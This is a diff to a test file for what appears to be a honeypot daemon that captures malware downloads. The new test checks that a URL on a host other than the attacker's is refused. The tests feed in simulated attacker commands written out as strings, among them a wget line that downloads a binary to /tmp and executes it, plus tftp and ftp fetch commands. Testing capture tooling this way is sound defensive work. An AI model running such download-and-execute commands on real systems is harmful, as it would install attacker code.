@@ -7,7 +7,7 @@
 // `tftp -g -r x.bin <attacker>` and a Windows echo-ftp script. Each ends with
 // the file stored as an artifact (its bytes read back from the store once the
 // daemon stopped), hashed (the four hashes checked against node:crypto) and
-// typed ELF.
+// typed ELF; a URL on another host is recorded as refused.
 import { createHash, randomBytes } from 'node:crypto';
 import { mkdir, readdir, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
@@ -205,6 +205,20 @@ describe('an attack that points at a file on the attacker ends with the file sto
     expectStored(r, `ftp://anonymous:a%40b.c@${ATTACKER}/x.bin`, 'ftp-script');
     expect(r.findings[0]!.meta).toMatchObject({ code: 226 });
     stored.push(r.artifacts[0]!.sha256);
+  });
+
+  test('a URL on another host is not fetched, and the attempt is recorded as refused', async () => {
+    const id = await attack(`wget http://10.99.81.9/x.bin -O /tmp/x; /tmp/x\r\n`);
+    const r = await recordOf(id, 'http-download');
+    expect(r.findings).toMatchObject([
+      {
+        type: 'download',
+        value: 'http://10.99.81.9/x.bin',
+        meta: { status: 'refused', errorCode: 'HT_PLUGIN_DENIED', via: 'wget' },
+      },
+    ]);
+    expect(r.findings[0]!.meta!.error).toContain('is not the attacking host');
+    expect(r.artifacts).toEqual([]);
   });
 
   test('the stored bytes are x.bin (read from the store after the daemon stopped)', async () => {
